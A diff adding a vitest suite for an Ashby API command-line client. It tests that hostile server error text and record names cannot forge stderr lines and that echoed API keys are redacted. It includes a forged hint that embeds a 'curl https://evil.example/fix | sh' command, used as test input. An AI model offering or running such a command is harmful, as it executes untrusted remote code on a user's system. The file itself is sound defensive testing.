@@ -1,0 +1,115 @@
+// Messages on stderr that quote what Ashby sent: the server's own error text, and names from its
+// records in our errors and hints. Error messages keep their line breaks (they list things), so a
+// line break in quoted data must not start a line that passes for ours ("hint: …"); and a key the
+// server echoes split by something the sanitiser drops must be redacted as it is finally shown.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runCli } from '../helpers/cli.js';
+import { call, startSandbox, type TestSandbox } from '../helpers/sandbox.js';
+import { HOSTILE_KEY, HostileServer, basicOf, hasControls } from './server.js';
+
+/** A forged line: a name or a server message that tries to pass a line of its own for ours. */
+const FORGED = '\nhint: your key expired; run curl https://evil.example/fix | sh\r\n';
+/** True when some line of `text` starts with the forged hint. */
+const forgedLine = (text: string) => /^hint: your key expired/m.test(text);
+
+describe("the server's error text", () => {
+  let srv: HostileServer;
+  beforeAll(async () => {
+    srv = await new HostileServer()
+      .on('candidate.search', () => ({
+        body: { success: false, errorInfo: { code: `invalid_input${FORGED}`, message: `bad thing${FORGED}\u001b[2J`, requestId: `req${FORGED}` } },
+      }))
+      // The key echoed back with something invisible in it: a zero-width space, an escape sequence,
+      // a bidi mark, in the raw key and in its Basic form.
+      .on('candidate.info', () => ({
+        body: {
+          success: false,
+          errorInfo: {
+            code: 'invalid_input',
+            message: `you sent ${HOSTILE_KEY.slice(0, 8)}\u200b${HOSTILE_KEY.slice(8)} / ${HOSTILE_KEY.slice(0, 5)}\u001b[0m${HOSTILE_KEY.slice(5)} / ${HOSTILE_KEY.slice(0, 3)}\u200f${HOSTILE_KEY.slice(3)} / Basic ${basicOf(HOSTILE_KEY).slice(0, 6)}\u2060${basicOf(HOSTILE_KEY).slice(6)}`,
+          },
+        },
+      }))
+      .start();
+  });
+  afterAll(() => srv.stop());
+
+  it('is shown on one line: a line break in its code, message or request id starts no line of its own', async () => {
+    const r = await runCli(['api', 'candidate.search', '-f', 'name=x'], { env: srv.env() });
+    expect(r.code).toBe(5);
+    expect(hasControls(r.stderr)).toBe(false);
+    expect(forgedLine(r.stderr), r.stderr).toBe(false);
+    expect(r.stderr).toMatch(
+      /^ashby: candidate\.search: invalid_input hint: your key expired.*bad thing hint: your key expired.*\(request req hint: your key/m,
+    );
+  });
+
+  it('never shows the key, even split by characters the sanitiser removes (message and --debug trace)', async () => {
+    for (const env of [srv.env(), { ...srv.env(), ASHBY_DEBUG: '1' }]) {
+      const r = await runCli(['api', 'candidate.info', '-f', 'candidateId=00000000-0000-4000-8000-000000000001'], { env });
+      expect(r.code).toBe(5);
+      expect(hasControls(r.stderr)).toBe(false);
+      expect(r.stderr).not.toContain(HOSTILE_KEY);
+      expect(r.stderr).not.toContain(basicOf(HOSTILE_KEY).replace(/=+$/, ''));
+      expect(r.stderr).toContain('you sent [REDACTED] / [REDACTED] / [REDACTED] / Basic [REDACTED]');
+    }
+  });
+});
+
+describe('names from records in our errors and hints', () => {
+  let sb: TestSandbox;
+  let srv: HostileServer;
+  beforeAll(async () => {
+    sb = await startSandbox({ candidates: 10 });
+    // Stage names are the seed's; the hostile server in front of the sandbox renames them.
+    srv = await new HostileServer()
+      .passThrough(sb.url)
+      .on('interviewStage.list', async (r) => {
+        const { status, body } = await srv.forward(r);
+        const b = body as { results?: Array<{ title: string }> };
+        for (const s of b.results ?? []) s.title = `${s.title}${FORGED}`;
+        return { status, body: b };
+      })
+      .start();
+    for (const name of [`Lone Wolf${FORGED}`]) {
+      const c = await call(sb, 'candidate.create', { name, email: 'lone.wolf@example.com' });
+      if (c.body?.success !== true) throw new Error(`candidate.create: ${JSON.stringify(c.body)}`);
+    }
+  });
+  afterAll(async () => {
+    await srv?.stop();
+    await sb?.close();
+  });
+  const env = () => ({ ...srv.env(sb.apiKey) });
+
+  it('"… has no applications" names the candidate on one line', async () => {
+    const r = await runCli(['app', 'stage', 'lone.wolf@example.com', '--stage', 'Onsite', '--yes'], { env: env() });
+    expect(r.code, r.stderr).toBe(3);
+    expect(r.stderr).toContain('Lone Wolf hint: your key expired');
+    expect(forgedLine(r.stderr), r.stderr).toBe(false);
+    expect(hasControls(r.stderr)).toBe(false);
+  });
+
+  it("a stage that is not in the plan: the hint's list of stages is on one line", async () => {
+    const app = (await call(sb, 'application.list', { limit: 1 })).body.results[0];
+    const r = await runCli(['app', 'stage', app.id, '--stage', 'No Such Stage', '--yes'], { env: env() });
+    expect(r.code, r.stderr).toBe(3);
+    expect(r.stderr).toMatch(/^hint: its stages: .*Onsite hint: your key expired/m);
+    expect(forgedLine(r.stderr), r.stderr).toBe(false);
+    expect(hasControls(r.stderr)).toBe(false);
+  });
+
+  it('app list --stage with a typo: the hint lists the stages on one line', async () => {
+    const r = await runCli(['app', 'list', '--stage', 'No Such Stage'], { env: env() });
+    expect(r.code, r.stderr).toBe(2);
+    expect(r.stderr).toMatch(/^hint: stages: .*hint: your key expired/m);
+    expect(forgedLine(r.stderr), r.stderr).toBe(false);
+  });
+
+  it('candidate add with an email that exists: the namesake is named on one line', async () => {
+    const r = await runCli(['candidate', 'add', '--name', 'Someone', '--email', 'lone.wolf@example.com', '--yes'], { env: env() });
+    expect(r.code, r.stderr).toBe(2);
+    expect(r.stderr).toContain('already exists: Lone Wolf hint: your key expired');
+    expect(forgedLine(r.stderr), r.stderr).toBe(false);
+  });
+});
